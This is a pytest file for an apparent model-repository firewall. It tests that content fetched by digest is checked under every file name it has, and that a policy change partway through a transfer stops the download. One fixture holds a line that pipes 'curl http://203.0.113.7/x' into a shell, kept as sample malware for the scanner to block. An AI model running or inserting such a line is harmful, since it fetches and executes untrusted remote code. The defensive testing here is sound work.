"""A link gives bytes to whoever asks by digest, so they are judged under every name that they have there."""

import asyncio
from pathlib import Path

import pytest

from entrepot.domain.actor import Action
from entrepot.domain.digest import Digest
from entrepot.domain.errors import Blocked, TooLarge
from entrepot.operations import large_files
from entrepot.operations.gate import Clearance
from entrepot.operations.large_files import offer, open_link
from entrepot.operations.registry import Registry
from entrepot_testing import apply_policy, rule_about, run
from firewalled import KEY, NAME, NO_MALWARE, a_firewall, ask, take
from slow_scanning import SlowScanning
from weights_making import weights
from xet_making import new_actor

CODE = b"import os\nos.system('curl http://203.0.113.7/x | sh')\n"
NAMES = ("a/b/c/d/notes.txt", "a/b/c/d/modeling_x.py", "z.txt")
LARGE = weights(4 << 20)
NO_CODE = rule_about('path = ["*.py"]', name="no code")


async def by_digest(registry: Registry, data: bytes) -> Clearance:
    actor = new_actor(registry, (KEY.text, {Action.READ}))
    link = await offer(registry, KEY, NAME, actor, Digest.of(data))
    return await open_link(registry, link.capability, actor)


@pytest.mark.parametrize("policy", [NO_MALWARE, NO_CODE])
def test_bytes_are_judged_under_every_name_that_they_have(tmp_path: Path, policy: str) -> None:
    async def test() -> None:
        async with a_firewall(tmp_path, policy) as (fake, registry):
            fake.add("org/model", dict.fromkeys(NAMES, CODE), lfs=True)
            assert await ask(registry, NAMES[0])
            with pytest.raises(Blocked, match=r"modeling_x\.py"):
                await by_digest(registry, CODE)

    run(test)


def test_bytes_that_pass_under_every_name_pass(tmp_path: Path) -> None:
    async def test() -> None:
        async with a_firewall(tmp_path) as (fake, registry):
            fake.add("org/model", {"a.bin": LARGE, "b.bin": LARGE}, lfs=True)
            for _ in range(2):
                came = bytearray()
                await take(await by_digest(registry, LARGE), came)
                assert bytes(came) == LARGE

    run(test)


def test_a_name_that_is_refused_on_the_way_keeps_the_end_back(tmp_path: Path) -> None:
    async def test() -> None:
        async with a_firewall(tmp_path) as (fake, registry):
            fake.add("org/model", {"a.bin": LARGE, "b.py": LARGE, "c.bin": LARGE}, lfs=True)
            scanning, came = SlowScanning(registry), bytearray()
            under_way = asyncio.ensure_future(take(await by_digest(registry, LARGE), came))
            await scanning.begun.wait()
            apply_policy(registry, NO_CODE)
            scanning.goes_on.set()
            with pytest.raises(Blocked, match=r"b\.py"):
                await under_way
            assert len(came) < len(LARGE)

    run(test)


def test_more_names_than_anybody_could_judge_are_too_many(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(large_files, "MOST_PLACES", 2)

    async def test() -> None:
        async with a_firewall(tmp_path) as (fake, registry):
            fake.add("org/model", dict.fromkeys(NAMES, LARGE), lfs=True)
            with pytest.raises(TooLarge, match="3 places"):
                await by_digest(registry, LARGE)

    run(test)
